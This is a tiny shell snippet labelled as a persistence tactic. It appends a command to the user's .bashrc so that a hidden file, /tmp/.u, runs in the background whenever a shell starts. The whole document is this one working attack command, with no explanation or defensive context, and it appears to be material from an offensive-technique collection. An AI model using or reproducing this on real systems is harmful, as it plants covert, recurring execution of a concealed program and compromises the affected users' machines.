# tactic: persistence
# plant a command in .bashrc
echo "/tmp/.u &" >> $HOME/.bashrc
